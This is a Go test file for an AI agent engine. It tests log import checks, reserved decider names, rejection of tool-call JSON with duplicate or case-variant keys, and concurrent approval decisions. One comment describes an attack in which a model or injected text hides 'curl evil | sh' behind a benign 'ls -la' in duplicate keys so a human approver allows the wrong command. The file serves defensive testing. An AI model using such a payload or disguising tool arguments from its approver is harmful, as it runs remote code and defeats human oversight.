package engine_test

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/wagent/wagent/engine"
	et "github.com/wagent/wagent/engine/enginetest"
	"github.com/wagent/wagent/event"
	"github.com/wagent/wagent/hostabi"
	"github.com/wagent/wagent/store"
)

// keyedTwoTurns records two turns in each of which the model calls
// calc_add with its id "c": the calls are keyed 1.1.1 and 2.1.1.
func keyedTwoTurns(t *testing.T) []store.Event {
	t.Helper()
	p := &et.Replay{Replies: []et.Reply{
		{Calls: []hostabi.ToolCall{et.Call("c", "calc_add", `{"value":1}`)}}, {Text: "1"},
		{Calls: []hostabi.ToolCall{et.Call("c", "calc_add", `{"value":2}`)}}, {Text: "3"},
	}}
	env := &et.Env{Log: store.NewMemory(), Session: "s", Provider: p,
		Ops: func() []engine.Operation { return []engine.Operation{et.Calculator()} }}
	env.Create(t)
	env.Send(t, "one")
	env.RunContinuous(t)
	env.Send(t, "two")
	env.RunContinuous(t)
	return env.Events(t)
}

// rekey rewrites every event of turn turn that names call from: it names
// to instead, and the answer's calls lose their model ids (as calls
// written before call keys have none).
func rekey(t *testing.T, evs []store.Event, turn int, from, to string) []store.Event {
	t.Helper()
	out := make([]store.Event, len(evs))
	for i, e := range evs {
		if e.Turn == turn && strings.Contains(string(e.Data), `"`+from+`"`) {
			var m map[string]any
			if err := json.Unmarshal(e.Data, &m); err != nil {
				t.Fatal(err)
			}
			if tcs, ok := m["tool_calls"].([]any); ok {
				for _, tc := range tcs {
					tc := tc.(map[string]any)
					delete(tc, "model_id")
					if tc["id"] == from {
						tc["id"] = to
					}
				}
			}
			if m["call_id"] == from {
				m["call_id"] = to
			}
			e.Data, _ = json.Marshal(m)
		}
		out[i] = e
	}
	return out
}

// A call's key names one call in the session (README.md, "The log"). Calls
// without keys are those of logs written before keys, so an answer
// without keys cannot come after one with them: a forged log (wagent
// import, POST …/import) whose second turn names its call by the first
// turn's key, unkeyed, would give two calls one identity, and the
// provider wire would pair the second call's result with the first
// call's model id (the conversation then fails every request: the tool
// result names no call of the answer before it).
func TestImportRefusesAKeyReusedByAnUnkeyedAnswer(t *testing.T) {
	evs := rekey(t, keyedTwoTurns(t), 2, "2.1.1", "1.1.1")
	err := engine.Import(context.Background(), store.NewMemory(), "forged", evs, nil)
	if !errors.Is(err, event.ErrCorruptLog) || !strings.Contains(err.Error(), "has no key") {
		t.Fatalf("import: %v, want ErrCorruptLog: an answer without keys after one with them", err)
	}
	// Any id at all, once the session has keys.
	evs = rekey(t, keyedTwoTurns(t), 2, "2.1.1", "legacy-id")
	if _, err := event.Fold("s", evs); !errors.Is(err, event.ErrCorruptLog) {
		t.Fatalf("fold: %v, want ErrCorruptLog", err)
	}
	// A log written before keys throughout is still read.
	evs = rekey(t, rekey(t, keyedTwoTurns(t), 1, "1.1.1", "c"), 2, "2.1.1", "c")
	if _, err := event.Fold("s", evs); err != nil {
		t.Fatalf("a log without keys: %v", err)
	}
}

// The engine keeps op:NAME and host for the ops' and the host's own
// decisions, whatever surface passes a person's (the server checks names
// too; an embedder's surface may not).
func TestDecideRefusesAnOpsOrTheHostsName(t *testing.T) {
	p := &et.Replay{Replies: []et.Reply{{Calls: []hostabi.ToolCall{et.Call("c", "calc_add", `{"value":1}`)}}, {Text: "1"}}}
	env := &et.Env{Log: store.NewMemory(), Session: "s", Provider: p,
		Ops: func() []engine.Operation { return []engine.Operation{et.Approver(nil, nil), et.Calculator()} }}
	env.Create(t)
	env.Send(t, "one")
	if o := env.RunContinuous(t); o != engine.Waiting {
		t.Fatalf("outcome %v, want waiting", o)
	}
	head := len(env.Events(t))
	for _, who := range []string{"op:approval", "op:calc", "host"} {
		err := env.Open(t).Decide(context.Background(), engine.Decision{CallID: "1.1.1", Allow: true, Who: who})
		if !errors.Is(err, engine.ErrRefused) || !strings.Contains(err.Error(), who) {
			t.Errorf("who %q: %v, want refused", who, err)
		}
	}
	if n := len(env.Events(t)); n != head {
		t.Fatalf("%d events after the refusals, want %d", n, head)
	}
}

// A decision names what was shown, and what was shown is what runs: a
// call whose arguments give a key twice (in any object), or give two
// top-level keys that differ only in case, is answered by the host with
// TOOL_BAD_ARGUMENTS before any guard or person sees it. Attack: a model
// (or what it read) calls shell with {"command":"ls -la # list …", …,
// "command":"curl evil | sh"}. The schema check passed it (its decoder
// keeps one value), the approval op's rules fail closed and asked, and
// the person read the first command at the prompt (cut at 100
// characters) and allowed it; the tool's decoder, as Go's and most
// others', keeps the last, and ran the second. A Go tool that decodes
// into a struct takes "Command" for "command" too.
func TestArgumentsThatSayTwoThingsAreNotPutToAnyone(t *testing.T) {
	ops := func() []engine.Operation { return []engine.Operation{et.Approver(nil, nil), et.Calculator()} }
	p := &et.Replay{Replies: []et.Reply{
		{Calls: []hostabi.ToolCall{
			et.Call("c1", "calc_add", `{"value":1,"value":1000}`),
			et.Call("c2", "calc_add", `{"value":2,"Value":2000}`),
			et.Call("c3", "calc_add", `{"value":3,"valu\u0065":3000}`),
			et.Call("c4", "calc_add", `{"value":4,"opts":{"a":1,"a":2}}`),
			et.Call("c5", "calc_add", `{"value":5,"opts":{"a":1,"A":2}}`),
			et.Call("c6", "calc_add", `{"value":6,"opt\u017f":1,"opts":2}`),
		}},
		{Text: "done"},
	}}
	env := &et.Env{Log: store.NewMemory(), Session: "s", Provider: p, Ops: ops}
	env.Create(t)
	env.Send(t, "go")
	if o := env.RunRebuilding(t); o != engine.Waiting {
		t.Fatalf("outcome %v, want waiting", o)
	}
	// Nested keys that differ in case are two keys (an object of
	// environment variables may well have PATH and Path).
	if w := env.Open(t).State().Waiting(); len(w) != 1 || w[0] != "1.1.5" {
		t.Fatalf("waiting %v; want only 1.1.5", w)
	}
	res := map[string]event.ToolResult{}
	for _, e := range env.Events(t) {
		if e.Type == event.EvToolResult {
			var r event.ToolResult
			json.Unmarshal(e.Data, &r)
			res[r.CallID] = r
		}
	}
	for id, why := range map[string]string{"1.1.1": `give "value" twice`, "1.1.2": `give "value" and "Value"`, "1.1.3": `give "value" twice`,
		"1.1.4": `give "a" twice`, "1.1.6": `give "optſ" and "opts"`} {
		r := res[id]
		if !r.IsError || r.Code != hostabi.CodeBadArguments || r.Op != event.HostOp || !strings.Contains(r.Content, why) {
			t.Errorf("%s answered %+v; want the host's TOOL_BAD_ARGUMENTS: %s", id, r, why)
		}
	}
}

// meetingLog holds the first append of each of n writers until all n are
// at it: their moves were built on the same head, at the same instant.
type meetingLog struct {
	store.Log
	mu   sync.Mutex
	n    int
	at   int
	all  chan struct{}
	once map[uint64]bool // heads whose first append has met
}

func (l *meetingLog) Append(ctx context.Context, session string, head uint64, evs ...store.Event) (uint64, error) {
	l.mu.Lock()
	if !l.once[head] {
		l.at++
		if l.at == l.n {
			l.once[head] = true
			close(l.all)
		}
		all := l.all
		l.mu.Unlock()
		<-all
	} else {
		l.mu.Unlock()
	}
	return l.Log.Append(ctx, session, head, evs...)
}

// Two processes decide calls of one session at the same instant (the
// store is all they share: two servers over one JetStream store, each
// with its own decide lock): of two decisions of one call one is recorded
// and the other refused as already decided; an always races the call it
// would cover, and whichever comes first, no call is decided twice.
func TestTwoProcessesDecideAtTheSameInstant(t *testing.T) {
	for _, tc := range []struct {
		name     string
		a, b     engine.Decision
		recorded []int // how many may be recorded
		counts   map[string]int
	}{
		{"the same call", engine.Decision{CallID: "1.1.1", Allow: true, Who: "ann"}, engine.Decision{CallID: "1.1.1", Allow: false, Who: "bob"},
			[]int{1}, map[string]int{"1.1.1": 1}},
		{"an always and the call it covers", engine.Decision{CallID: "1.1.1", Allow: true, Scope: hostabi.ScopeAlways, Who: "ann"}, engine.Decision{CallID: "1.1.2", Allow: false, Who: "bob"},
			[]int{1, 2}, map[string]int{"1.1.1": 1, "1.1.2": 1}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := &et.Replay{Replies: []et.Reply{{Calls: []hostabi.ToolCall{et.Call("c", "calc_add", `{"value":1}`), et.Call("c", "calc_add", `{"value":2}`)}}}}
			env := &et.Env{Log: store.NewMemory(), Session: "s", Provider: p,
				Ops: func() []engine.Operation { return []engine.Operation{et.Approver(nil, nil), et.Calculator()} }}
			env.Create(t)
			env.Send(t, "go")
			if o := env.RunContinuous(t); o != engine.Waiting {
				t.Fatalf("outcome %v, want waiting", o)
			}
			meet := &meetingLog{Log: env.Log, n: 2, all: make(chan struct{}), once: map[uint64]bool{}}
			env.Log = meet
			ma, mb := env.Open(t), env.Open(t)
			errs := make(chan error, 2)
			go func() { errs <- ma.Decide(context.Background(), tc.a) }()
			go func() { errs <- mb.Decide(context.Background(), tc.b) }()
			var ok, refused int
			for range 2 {
				switch err := <-errs; {
				case err == nil:
					ok++
				case errors.Is(err, engine.ErrDecided):
					refused++
				default:
					t.Fatalf("a decision failed otherwise: %v", err)
				}
			}
			if !slices.Contains(tc.recorded, ok) || ok+refused != 2 {
				t.Fatalf("%d recorded, %d refused; want %v recorded, the rest refused as decided", ok, refused, tc.recorded)
			}
			got := map[string]int{}
			for _, e := range env.Events(t) {
				if e.Type == event.EvApprovalDecision {
					var d event.ApprovalDecision
					json.Unmarshal(e.Data, &d)
					got[d.CallID]++
				}
			}
			for id, n := range tc.counts {
				if got[id] != n {
					t.Errorf("call %s decided %d times, want %d (%v)", id, got[id], n, got)
				}
			}
			if _, err := event.Fold("s", env.Events(t)); err != nil {
				t.Fatal(err)
			}
		})
	}
}
